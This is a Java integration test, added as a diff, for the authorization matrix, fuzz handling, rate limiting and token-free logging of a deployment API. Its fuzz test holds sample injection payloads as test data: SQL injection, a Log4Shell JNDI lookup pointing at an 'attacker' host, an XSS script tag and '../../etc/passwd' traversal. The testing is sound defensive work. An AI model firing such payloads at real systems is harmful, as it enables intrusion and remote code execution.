@@ -1,0 +1,375 @@
+package dev.rollwatch.deploy;
+
+import dev.rollwatch.events.Topics;
+import dev.rollwatch.testsupport.KafkaTestClient;
+import dev.rollwatch.testsupport.RollwatchInfraResource;
+import dev.rollwatch.testsupport.TestTokens;
+import io.quarkus.test.common.QuarkusTestResource;
+import io.quarkus.test.junit.QuarkusTest;
+import io.restassured.http.ContentType;
+import io.restassured.response.Response;
+import io.restassured.specification.RequestSpecification;
+import org.junit.jupiter.api.AfterAll;
+import org.junit.jupiter.api.BeforeAll;
+import org.junit.jupiter.api.Test;
+
+import java.io.IOException;
+import java.io.InputStream;
+import java.net.URI;
+import java.net.http.HttpClient;
+import java.net.http.HttpRequest;
+import java.net.http.HttpResponse;
+import java.nio.charset.StandardCharsets;
+import java.time.Duration;
+import java.util.ArrayList;
+import java.util.LinkedHashMap;
+import java.util.List;
+import java.util.Map;
+import java.util.UUID;
+import java.util.concurrent.ConcurrentLinkedQueue;
+import java.util.concurrent.atomic.AtomicInteger;
+import java.util.function.Function;
+import java.util.logging.Handler;
+import java.util.logging.LogRecord;
+import java.util.logging.Logger;
+
+import static dev.rollwatch.deploy.Rollouts.awaitStatus;
+import static io.restassured.RestAssured.given;
+import static org.assertj.core.api.Assertions.assertThat;
+
+/**
+ * Who may call what (docs/security.md): every endpoint × every kind of caller, the status of each cell asserted;
+ * a deployer is confined to its services; refused changes change nothing; fuzzed bodies get 4xx problem+json
+ * only; no log line carries a token.
+ */
+@QuarkusTest
+@QuarkusTestResource(value = RollwatchInfraResource.class, restrictToAnnotatedClass = false)
+class DeploySecurityIT {
+
+    private static final String SERVICE = "sec-" + UUID.randomUUID().toString().substring(0, 8);
+    private static final String OTHER_SERVICE = SERVICE + "-other";
+    private static final String GATE = "[{\"setWeight\": 5}, {\"pause\": {}}, {\"setWeight\": 100}]";
+    private static final AtomicInteger ENVIRONMENTS = new AtomicInteger();
+    private static final ConcurrentLinkedQueue<String> LOGGED = new ConcurrentLinkedQueue<>();
+    private static final Handler CAPTURE = new Handler() {
+        @Override
+        public void publish(LogRecord r) {
+            String message = r.getMessage();
+            if (r.getParameters() != null && message != null) {
+                try {
+                    message = String.format(message, r.getParameters());
+                } catch (RuntimeException e) {
+                    message = message + " " + java.util.Arrays.toString(r.getParameters());
+                }
+            }
+            LOGGED.add(message + (r.getThrown() != null ? " " + r.getThrown() : ""));
+        }
+
+        @Override
+        public void flush() {
+        }
+
+        @Override
+        public void close() {
+        }
+    };
+    private static final HttpClient HTTP = HttpClient.newHttpClient();
+    private static KafkaTestClient kafka;
+
+    /** The callers of the matrix: name → Authorization header ({@code none}: no header at all). */
+    private static final Map<String, String> CALLERS = new LinkedHashMap<>();
+
+    @BeforeAll
+    static void setUp() {
+        Logger.getLogger("").addHandler(CAPTURE);
+        kafka = KafkaTestClient.forTestBroker();
+        List<String> all = TestTokens.ALL_ROLES;
+        CALLERS.put("no token", "none");
+        CALLERS.put("expired", TestTokens.builder().roles(all).services("*").expired(Duration.ofMinutes(5)).bearer());
+        CALLERS.put("other key", TestTokens.otherKey().roles(all).services("*").bearer());
+        CALLERS.put("other audience", TestTokens.builder().roles(all).services("*").audience("someone-else").bearer());
+        CALLERS.put("other issuer", TestTokens.builder().roles(all).services("*").issuer("evil").bearer());
+        CALLERS.put("not a JWT", "Bearer not.a.jwt");
+        CALLERS.put("deployer", TestTokens.builder().subject("dee").roles("deployer").services(SERVICE).bearer());
+        CALLERS.put("operator", TestTokens.builder().subject("otto").roles("operator").bearer());
+        CALLERS.put("auditor", TestTokens.builder().subject("audrey").roles("auditor").bearer());
+        CALLERS.put("admin", TestTokens.builder().subject("adam").roles("admin").bearer());
+        CALLERS.put("agent", TestTokens.builder().subject("agent-7").roles("agent").bearer());
+        CALLERS.put("deployer, no services", TestTokens.builder().subject("nobody").roles("deployer").bearer());
+    }
+
+    @AfterAll
+    static void tearDown() {
+        Logger.getLogger("").removeHandler(CAPTURE);
+        kafka.close();
+    }
+
+    private record Endpoint(String name, String method, boolean mutating, Function<String, String> path,
+            String body) {
+    }
+
+    private static final List<Endpoint> ENDPOINTS = List.of(
+            new Endpoint("POST /deployments", "POST", true, id -> "/api/v1/deployments", null),
+            new Endpoint("GET /deployments", "GET", false, id -> "/api/v1/deployments", null),
+            new Endpoint("GET /{id}", "GET", false, id -> "/api/v1/deployments/" + id, null),
+            new Endpoint("GET /{id}/events", "GET", false, id -> "/api/v1/deployments/" + id + "/events", null),
+            new Endpoint("GET /{id}/report", "GET", false, id -> "/api/v1/deployments/" + id + "/report", null),
+            new Endpoint("POST /{id}/approve", "POST", true, id -> "/api/v1/deployments/" + id + "/approve",
+                    "{\"reason\": \"ok\"}"),
+            new Endpoint("POST /{id}/abort", "POST", true, id -> "/api/v1/deployments/" + id + "/abort",
+                    "{\"reason\": \"stop\"}"),
+            new Endpoint("POST /{id}/promote", "POST", true, id -> "/api/v1/deployments/" + id + "/promote",
+                    "{\"reason\": \"go\"}"));
+
+    /** The expected status of each cell; callers not named for an endpoint get 403, bad tokens 401. */
+    private static int expected(String endpoint, String caller) {
+        if (List.of("no token", "expired", "other key", "other audience", "other issuer", "not a JWT")
+                .contains(caller)) {
+            return 401;
+        }
+        boolean deployer = caller.equals("deployer");
+        boolean operator = caller.equals("operator");
+        return switch (endpoint) {
+            case "POST /deployments" -> deployer ? 202 : 403;
+            case "GET /deployments", "GET /{id}", "GET /{id}/events", "GET /{id}/report" ->
+                    deployer || operator || caller.equals("deployer, no services") && endpoint.equals(
+                            "GET /deployments") ? 200 : 403;
+            case "POST /{id}/abort" -> deployer || operator ? 200 : 403;
+            case "POST /{id}/approve", "POST /{id}/promote" -> operator ? 200 : 403;
+            default -> throw new IllegalArgumentException(endpoint);
+        };
+    }
+
+    @Test
+    void everyEndpointAnswersEveryCallerAsTheMatrixSays() {
+        // A deployment waiting at its gate: the object every refused call is aimed at, which must not move.
+        String shared = startGated(SERVICE);
+        Map<String, Object> before = view(shared);
+        List<String> mismatches = new ArrayList<>();
+        int cells = 0;
+        for (Endpoint e : ENDPOINTS) {
+            for (Map.Entry<String, String> c : CALLERS.entrySet()) {
+                int want = expected(e.name(), c.getKey());
+                // An allowed change gets its own deployment, so the cells do not depend on each other.
+                String id = e.mutating() && want < 300 && !e.name().equals("POST /deployments")
+                        ? startGated(SERVICE) : shared;
+                String body = e.name().equals("POST /deployments") ? createBody(SERVICE) : e.body();
+                Response r = call(c.getValue(), e.method(), e.path().apply(id), body);
+                cells++;
+                if (r.statusCode() != want) {
+                    mismatches.add(e.name() + " as " + c.getKey() + ": " + r.statusCode() + " (want " + want + ") "
+                            + r.asString());
+                    continue;
+                }
+                if (want == 401) {
+                    assertProblem(r, e.name() + " as " + c.getKey());
+                    assertThat(r.header("WWW-Authenticate")).as("401 challenge").isEqualTo("Bearer");
+                } else if (want == 403) {
+                    assertProblem(r, e.name() + " as " + c.getKey());
+                }
+            }
+        }
+        assertThat(mismatches).as("cells that differ from the matrix (of %d)", cells).isEmpty();
+        assertThat(cells).isEqualTo(ENDPOINTS.size() * CALLERS.size());
+        // Nothing refused moved the shared deployment, and no refused create started one.
+        assertThat(view(shared)).isEqualTo(before);
+        assertThat(kafka.eventsAbout(Topics.DEPLOYMENT_COMMANDS, shared)).isEmpty();
+        assertNoTokenLogged();
+    }
+
+    @Test
+    void aDeployerOfOneServiceCannotSeeOrTouchAnotherServicesDeployments() {
+        String mine = startGated(SERVICE);
+        String theirs = startGated(OTHER_SERVICE);
+        String dee = CALLERS.get("deployer");
+        Map<String, Object> before = view(theirs);
+
+        for (String path : List.of("", "/report", "/events")) {
+            Response r = call(dee, "GET", "/api/v1/deployments/" + theirs + path, null);
+            assertThat(r.statusCode()).as("GET " + path).isEqualTo(403);
+            assertThat(r.jsonPath().getString("type")).isEqualTo("https://rollwatch.dev/problems/forbidden-service");
+        }
+        assertThat(call(dee, "POST", "/api/v1/deployments/" + theirs + "/abort", "{}").statusCode()).isEqualTo(403);
+        assertThat(call(dee, "POST", "/api/v1/deployments", createBody(OTHER_SERVICE)).statusCode()).isEqualTo(403);
+        assertThat(call(dee, "GET", "/api/v1/deployments?service=" + OTHER_SERVICE, null).statusCode())
+                .isEqualTo(403);
+        List<String> listed = call(dee, "GET", "/api/v1/deployments?size=200", null).jsonPath()
+                .getList("items.service", String.class);
+        assertThat(listed).contains(SERVICE).doesNotContain(OTHER_SERVICE).allMatch(SERVICE::equals);
+        // A deployer with no services sees an empty list, not everything.
+        assertThat(call(CALLERS.get("deployer, no services"), "GET", "/api/v1/deployments", null).jsonPath()
+                .getList("items")).isEmpty();
+        // The services claim may also be a comma-separated string.
+        String listedAsString = TestTokens.builder().subject("dee2").roles("deployer")
+                .servicesAsString(SERVICE + "," + OTHER_SERVICE).bearer();
+        assertThat(call(listedAsString, "GET", "/api/v1/deployments/" + theirs, null).statusCode()).isEqualTo(200);
+        assertThat(call(dee, "GET", "/api/v1/deployments/" + mine, null).statusCode()).isEqualTo(200);
+        assertThat(view(theirs)).isEqualTo(before);
+        assertNoTokenLogged();
+    }
+
+    @Test
+    void whoActedIsTheTokensSubjectInTheViewAndTheEvents() {
+        String id = startGated(SERVICE); // started by "dee"
+        assertThat(view(id).get("requestedBy")).isEqualTo("dee");
+        call(CALLERS.get("operator"), "POST", "/api/v1/deployments/" + id + "/promote", "{\"reason\": \"go\"}")
+                .then().statusCode(200);
+        assertThat(view(id).get("promotedBy")).isEqualTo("otto");
+        var started = kafka.awaitEvent(Topics.DEPLOYMENT_STARTED, id, dev.rollwatch.events.DeploymentStarted.class,
+                Rollouts.WAIT);
+        assertThat(started.data().requestedBy()).isEqualTo("dee");
+    }
+
+    @Test
+    void fuzzedBodiesGetFourHundredsAndStartNothing() {
+        String dee = CALLERS.get("deployer");
+        String env = "fuzz";
+        String good = createBody(SERVICE, env);
+        List<String> bodies = List.of(
+                good.replace("\"service\": \"" + SERVICE + "\"", "\"service\": 5"),
+                good.replace("\"version\": \"2.4.0\"", "\"version\": true"),
+                good.replace("\"version\": \"2.4.0\"", "\"version\": {\"$gt\": \"\"}"),
+                good.replace("{\"setWeight\": 5}", "{\"setWeight\": \"5\"}"),
+                good.replace("{\"setWeight\": 5}", "{\"setWeight\": 5.5}"),
+                good.replace("\"version\": \"2.4.0\"", "\"version\": \"2.4.0\", \"requestedBy\": \"the-cto\""),
+                good.replace("\"version\": \"2.4.0\"", "\"version\": \"2.4.0\", \"status\": \"SUCCEEDED\""),
+                good.replace("\"service\": \"" + SERVICE + "\"", "\"service\": \"'; DROP TABLE deployment;--\""),
+                good.replace("\"version\": \"2.4.0\"", "\"version\": \"${jndi:ldap://attacker/x}\""),
+                good.replace("\"version\": \"2.4.0\"", "\"version\": \"<script>alert(1)</script>\""),
+                good.replace("\"environment\": \"" + env + "\"", "\"environment\": \"../../etc/passwd\""),
+                good.substring(0, good.length() / 2),
+                "[]", "null", "\"a string\"", "",
+                good.replace("\"version\": \"2.4.0\"", "\"version\": \"" + "9".repeat(2 * 1024 * 1024) + "\""));
+        for (String body : bodies) {
+            Response r = call(dee, "POST", "/api/v1/deployments", body);
+            String what = body.length() > 5000 ? "a body of " + body.length() + " chars" : body;
+            assertThat(r.statusCode()).as(what + " → " + r.asString()).isBetween(400, 499);
+            assertProblem(r, what);
+            assertThat(r.asString()).as("no internals in " + what).doesNotContainIgnoringCase("exception")
+                    .doesNotContain("dev.rollwatch").doesNotContain("com.fasterxml");
+        }
+        assertThat(call(dee, "POST", "/api/v1/deployments", good.replace("\"version\": \"2.4.0\"",
+                "\"version\": \"" + "9".repeat(2 * 1024 * 1024) + "\"")).statusCode()).isEqualTo(413);
+        // Nothing was started: the service and environment are still free.
+        assertThat(call(dee, "GET", "/api/v1/deployments?service=" + SERVICE + "&environment=" + env, null)
+                .jsonPath().getInt("total")).isZero();
+        // Free text is text: an injection string in a reason is stored and returned as it was, harmlessly.
+        String id = startGated(SERVICE);
+        String reason = "'; DROP TABLE deployment;-- <script>alert(1)</script> ${jndi:ldap://x}";
+        call(dee, "POST", "/api/v1/deployments/" + id + "/abort",
+                "{\"reason\": \"" + reason.replace("\"", "\\\"") + "\"}").then().statusCode(200);
+        assertThat(view(id).get("statusReason").toString()).contains(reason);
+        assertNoTokenLogged();
+    }
+
+    @Test
+    void tooManyChangesFromOneIdentityAre429WithRetryAfterAndOthersAreNotHeldUp() {
+        String flood = TestTokens.builder().subject("flood-" + UUID.randomUUID()).roles("deployer")
+                .services(SERVICE).bearer();
+        // Invalid creates are cheap and still count: the limit is on requests, whatever their fate. Sent from 16
+        // threads at once, so the refill (10/s) cannot keep up whatever the machine's speed.
+        java.util.concurrent.ExecutorService pool = java.util.concurrent.Executors.newFixedThreadPool(16);
+        List<Response> responses;
+        try {
+            List<java.util.concurrent.Future<Response>> sent = new ArrayList<>();
+            for (int i = 0; i < 240; i++) {
+                sent.add(pool.submit(() -> call(flood, "POST", "/api/v1/deployments", "{}")));
+            }
+            responses = new ArrayList<>();
+            for (var f : sent) {
+                responses.add(f.get());
+            }
+        } catch (Exception e) {
+            throw new IllegalStateException(e);
+        } finally {
+            pool.shutdownNow();
+        }
+        assertThat(responses).extracting(Response::statusCode).containsOnly(400, 429);
+        long accepted = responses.stream().filter(r -> r.statusCode() == 400).count();
+        Response limited = responses.stream().filter(r -> r.statusCode() == 429).findFirst().orElse(null);
+        assertThat(limited).as("429 among 240 requests at once").isNotNull();
+        assertThat(accepted).isGreaterThanOrEqualTo(60); // the default burst
+        assertProblem(limited, "429");
+        assertThat(Integer.parseInt(limited.header("Retry-After"))).isBetween(1, 60);
+        // Reads are not limited, and another identity is not held up by the flood.
+        assertThat(call(flood, "GET", "/api/v1/deployments", null).statusCode()).isEqualTo(200);
+        assertThat(call(CALLERS.get("deployer"), "POST", "/api/v1/deployments", "{}").statusCode()).isEqualTo(400);
+    }
+
+    private static void assertNoTokenLogged() {
+        List<String> tokens = CALLERS.values().stream().filter(v -> v.startsWith("Bearer "))
+                .map(v -> v.substring("Bearer ".length())).filter(t -> t.length() > 20).toList();
+        for (String line : LOGGED) {
+            for (String token : tokens) {
+                assertThat(line).as("a log line").doesNotContain(token)
+                        .doesNotContain(token.substring(token.lastIndexOf('.') + 1));
+            }
+        }
+        assertThat(LOGGED).as("log lines captured").isNotEmpty();
+    }
+
+    private static void assertProblem(Response r, String what) {
+        assertThat(r.contentType()).as(what).startsWith("application/problem+json");
+        assertThat(r.jsonPath().getInt("status")).as(what).isEqualTo(r.statusCode());
+        assertThat(r.jsonPath().getString("type")).as(what).startsWith("https://rollwatch.dev/problems/");
+    }
+
+    private static Response call(String authorization, String method, String path, String body) {
+        if (path.endsWith("/events")) {
+            return openStream(authorization, path);
+        }
+        RequestSpecification spec = given().header("Authorization", authorization);
+        if (body != null) {
+            spec = spec.contentType(ContentType.JSON).body(body);
+        } else if (method.equals("POST")) {
+            spec = spec.contentType(ContentType.JSON);
+        }
+        return spec.when().request(method, path).thenReturn();
+    }
+
+    /** Opens a live stream, keeps its status and headers (and the body of a refusal), and closes it. */
+    private static Response openStream(String authorization, String path) {
+        HttpRequest.Builder request = HttpRequest.newBuilder(URI.create("http://localhost:"
+                + io.restassured.RestAssured.port + path)).header("Accept", "text/event-stream")
+                .timeout(Duration.ofSeconds(10));
+        if (!"none".equals(authorization)) {
+            request.header("Authorization", authorization);
+        }
+        try {
+            HttpResponse<InputStream> r = HTTP.send(request.build(), HttpResponse.BodyHandlers.ofInputStream());
+            String body;
+            try (InputStream in = r.body()) {
+                body = r.statusCode() == 200 ? "" : new String(in.readAllBytes(), StandardCharsets.UTF_8);
+            }
+            var built = new io.restassured.builder.ResponseBuilder().setStatusCode(r.statusCode()).setBody(body)
+                    .setContentType(r.headers().firstValue("content-type").orElse(""));
+            r.headers().firstValue("www-authenticate").ifPresent(v -> built.setHeader("WWW-Authenticate", v));
+            return built.build();
+        } catch (IOException | InterruptedException e) {
+            throw new IllegalStateException("GET " + path + ": " + e, e);
+        }
+    }
+
+    private static String createBody(String service) {
+        return createBody(service, "env-" + ENVIRONMENTS.incrementAndGet());
+    }
+
+    private static String createBody(String service, String environment) {
+        return Rollouts.body(service, environment, GATE);
+    }
+
+    /** Starts a deployment of {@code service} (by "dee", or an all-services deployer) and waits at its gate. */
+    private static String startGated(String service) {
+        String who = service.equals(SERVICE) ? CALLERS.get("deployer")
+                : TestTokens.builder().subject("other-team").roles("deployer").services(service).bearer();
+        String id = call(who, "POST", "/api/v1/deployments", createBody(service)).then().statusCode(202)
+                .extract().path("id");
+        awaitStatus(id, "AWAITING_APPROVAL");
+        return id;
+    }
+
+    @SuppressWarnings("unchecked")
+    private static Map<String, Object> view(String id) {
+        return given().when().get("/api/v1/deployments/" + id).then().statusCode(200).extract().as(Map.class);
+    }
+}
